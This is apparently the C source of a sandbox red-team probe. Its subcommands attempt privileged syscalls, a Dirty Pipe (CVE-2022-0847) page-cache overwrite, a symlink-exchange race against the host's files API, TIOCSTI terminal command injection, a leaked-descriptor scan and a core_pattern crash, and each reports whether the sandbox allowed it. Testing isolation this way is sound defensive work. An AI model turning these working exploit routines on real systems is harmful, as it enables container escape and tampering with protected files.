/*
 * The red-team probe: one static binary, copied into a sandbox through the files API, with one
 * subcommand per attack that needs more than a shell. It prints what it tried and what happened;
 * a line starting with "BREACH" means something the sandbox should not allow succeeded. The
 * verdict is still the host's: the suite checks host files, sysctls and cgroups after each run.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef AF_VSOCK
#define AF_VSOCK 40
#endif
#ifndef AF_ALG
#define AF_ALG 38
#endif
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static int breaches;

static void report(const char *what, long r)
{
    if (r < 0)
        printf("denied %s errno=%d\n", what, errno);
    else {
        printf("BREACH %s returned %ld\n", what, r);
        breaches++;
    }
}

/* Syscalls SECURITY.md names as dangerous; each must fail (EPERM/ENOSYS/EINVAL from the filter). */
static int syscalls(void)
{
    report("keyctl(join_session_keyring)", syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, "moat-redteam"));
    report("add_key", syscall(SYS_add_key, "user", "moat-redteam", "x", 1, -3 /* session */));
    {
        char attr[128] = {0};
        *(uint32_t *)attr = 1; /* BPF_MAP_TYPE_HASH */
        ((uint32_t *)attr)[1] = 4;
        ((uint32_t *)attr)[2] = 4;
        ((uint32_t *)attr)[3] = 1;
        report("bpf(BPF_MAP_CREATE)", syscall(SYS_bpf, 0, attr, sizeof attr));
    }
    {
        char attr[128] = {0};
        ((uint32_t *)attr)[0] = 1; /* PERF_TYPE_SOFTWARE */
        ((uint32_t *)attr)[1] = sizeof attr;
        report("perf_event_open", syscall(SYS_perf_event_open, attr, 0, -1, -1, 0));
    }
    report("userfaultfd", syscall(SYS_userfaultfd, 0));
    {
        char params[120] = {0};
        report("io_uring_setup", syscall(425, 4, params));
    }
    report("init_module", syscall(SYS_init_module, "\0asm", 4, ""));
    report("finit_module", syscall(SYS_finit_module, 0, "", 0));
    report("delete_module", syscall(SYS_delete_module, "moat_redteam", 0));
    report("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
    {
        struct { unsigned int bytes; int type; unsigned char f[128]; } h = { .bytes = 8, .type = 1 };
        report("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, &h, O_RDONLY));
    }
    report("socket(AF_VSOCK)", socket(AF_VSOCK, SOCK_STREAM, 0));
    report("socket(AF_ALG)", socket(AF_ALG, SOCK_SEQPACKET, 0));
    report("socket(AF_PACKET)", socket(AF_PACKET, SOCK_RAW, 0));
    report("socket(raw icmp)", socket(AF_INET, SOCK_RAW, 1));
    report("unshare(CLONE_NEWUSER|CLONE_NEWNS)", unshare(CLONE_NEWUSER | CLONE_NEWNS));
    report("unshare(CLONE_NEWNET)", unshare(CLONE_NEWNET));
    report("mount(tmpfs)", mount("none", "/tmp", "tmpfs", 0, NULL));
    report("mount(proc)", mount("proc", "/mnt", "proc", 0, NULL));
    report("mount(cgroup v1 memory)", mount("cgroup", "/mnt", "cgroup", 0, "memory"));
    report("mount(cgroup2)", mount("cgroup2", "/mnt", "cgroup2", 0, NULL));
    report("swapon", syscall(SYS_swapon, "/tmp/none", 0));
    report("acct", syscall(SYS_acct, "/tmp/acct"));
    report("reboot(CAD_OFF)", syscall(SYS_reboot, 0xfee1dead, 672274793, 0 /* LINUX_REBOOT_CMD_CAD_OFF */, NULL));
    report("mknod(block 8:0)", mknod("/tmp/sda", S_IFBLK | 0600, makedev(8, 0)));
    report("mknod(char 1:1 /dev/mem)", mknod("/tmp/mem", S_IFCHR | 0600, makedev(1, 1)));
    {
        struct timeval tv = { .tv_sec = 946684800 };
        report("settimeofday(2000-01-01)", settimeofday(&tv, NULL));
    }
    report("sethostname", sethostname("pwned", 5));
    report("ptrace(PTRACE_ATTACH, 1)", syscall(SYS_ptrace, 16, 1, 0, 0));
    report("process_vm_readv(1)", syscall(SYS_process_vm_readv, 1, NULL, 0, NULL, 0, 0));
    report("setns(/proc/1/ns/mnt)", ({ int fd = open("/proc/1/ns/mnt", O_RDONLY); fd < 0 ? fd : setns(fd, 0); }));
    report("chroot(/tmp)", chroot("/tmp"));
    report("iopl(3)", syscall(SYS_iopl, 3));
    report("ioperm", syscall(SYS_ioperm, 0x70, 2, 1));
    report("setuid(0) from user", getuid() != 0 ? setuid(0) : -1);
    printf("breaches=%d\n", breaches);
    return 0;
}

/*
 * Dirty Pipe (CVE-2022-0847): splice a page of a read-only file into a pipe whose buffers were
 * left with PIPE_BUF_FLAG_CAN_MERGE, then write: a vulnerable kernel writes into the page cache
 * of the file, i.e. into the shared read-only template layer every sandbox sees.
 */
static int dirtypipe(const char *path, const char *data)
{
    int fd = open(path, O_RDONLY);
    if (fd < 0) { printf("open %s errno=%d\n", path, errno); return 0; }
    int p[2];
    if (pipe(p)) { printf("pipe errno=%d\n", errno); return 0; }
    int size = fcntl(p[1], F_GETPIPE_SZ);
    static char buf[4096];
    for (int r = size; r > 0;) { int n = r > (int)sizeof buf ? (int)sizeof buf : r; write(p[1], buf, n); r -= n; }
    for (int r = size; r > 0;) { int n = r > (int)sizeof buf ? (int)sizeof buf : r; read(p[0], buf, n); r -= n; }
    loff_t off = 0; /* offset 0: splice one byte, then the write lands at offset 1 */
    ssize_t n = splice(fd, &off, p[1], NULL, 1, 0);
    if (n <= 0) { printf("splice errno=%d\n", errno); return 0; }
    n = write(p[1], data, strlen(data));
    printf("wrote %zd bytes into the pipe\n", n);
    char check[256] = {0};
    pread(fd, check, sizeof check - 1, 1);
    if (strncmp(check, data, strlen(data)) == 0)
        printf("BREACH the page cache of %s now holds the injected bytes\n", path);
    else
        printf("the file is unchanged\n");
    return 0;
}

/*
 * Symlink-exchange race (CVE-2018-15664 class) against the files API: swap a real directory
 * and a symlink to / with RENAME_EXCHANGE as fast as possible while the host reads and writes
 * paths through the directory.
 */
static int exchange(const char *dir, const char *link, int seconds)
{
    time_t end = time(NULL) + seconds;
    long swaps = 0;
    while (time(NULL) < end) {
        if (syscall(SYS_renameat2, AT_FDCWD, dir, AT_FDCWD, link, RENAME_EXCHANGE) == 0)
            swaps++;
        else if (errno != EINTR && swaps == 0) { printf("renameat2 errno=%d\n", errno); return 0; }
    }
    printf("swaps=%ld\n", swaps);
    return 0;
}

/* TIOCSTI: push a command into the terminal's input queue, for whoever reads it next. */
static int tiocsti(const char *text)
{
    int n = 0;
    for (const char *c = text; *c; c++)
        if (ioctl(0, TIOCSTI, c) == 0)
            n++;
        else {
            printf("denied TIOCSTI errno=%d\n", errno);
            return 0;
        }
    printf("BREACH injected %d bytes with TIOCSTI\n", n);
    return 0;
}

/* Scans every descriptor number and /proc/self/fd for something that is not the sandbox's. */
static int fds(void)
{
    for (int fd = 3; fd < 1024; fd++) {
        char link[64], target[PATH_MAX];
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(link, target, sizeof target - 1);
        if (n > 0) {
            target[n] = 0;
            printf("fd %d -> %s\n", fd, target);
        }
    }
    if (fchdir(3) == 0 || fchdir(4) == 0 || fchdir(5) == 0)
        printf("BREACH a leaked directory descriptor is usable\n");
    printf("scanned\n");
    return 0;
}

/* Crashes on purpose: with core_pattern writable, the kernel would run a host program for it. */
static int crash(void)
{
    volatile int *p = NULL;
    return *p;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2) { fprintf(stderr, "usage: probe syscalls|dirtypipe FILE DATA|exchange DIR LINK SECONDS|tiocsti TEXT|fds|crash\n"); return 2; }
    if (!strcmp(argv[1], "syscalls")) return syscalls();
    if (!strcmp(argv[1], "dirtypipe") && argc == 4) return dirtypipe(argv[2], argv[3]);
    if (!strcmp(argv[1], "exchange") && argc == 5) return exchange(argv[2], argv[3], atoi(argv[4]));
    if (!strcmp(argv[1], "tiocsti") && argc == 3) return tiocsti(argv[2]);
    if (!strcmp(argv[1], "fds")) return fds();
    if (!strcmp(argv[1], "crash")) return crash();
    fprintf(stderr, "unknown subcommand %s\n", argv[1]);
    return 2;
}
